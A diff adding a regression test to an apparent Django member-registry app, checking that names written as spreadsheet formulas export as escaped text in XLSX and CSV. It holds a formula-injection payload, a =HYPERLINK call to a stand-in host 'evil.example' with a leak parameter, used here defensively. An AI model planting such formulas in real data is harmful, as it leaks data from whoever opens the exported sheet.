@@ -472,3 +472,20 @@ def test_nik_problems_show_in_the_first_round_with_the_other_missing_fields(as_o
     )
     assert "nik_province" in field_errors(response, "nik")[0]
     assert "required" in field_errors(response, "full_name")[0]
+
+
+def test_a_name_written_as_a_formula_exports_as_text_not_as_a_live_formula(as_officer, program):
+    """Finding 7: a member named =HYPERLINK(...) exported as a live formula."""
+    evil = '=HYPERLINK("http://evil.example/?leak","klik")'
+    group = GroupFactory(program=program)
+    from tunas.registry import services
+
+    services.member_register(group=group, data=person_data(full_name=evil, birth_place="+SUM(1,2)"))
+    response = as_officer.get(reverse("registry:member_export"))
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
+    assert all(c.data_type != "f" for c in cells)
+    values = {c.value for c in cells}
+    assert "'" + evil in values and "'+SUM(1,2)" in values
+    csv = b"".join(as_officer.get(reverse("reports:download", args=["participants", "csv"])).streaming_content)
+    assert "'=HYPERLINK" in csv.decode("utf-8-sig")
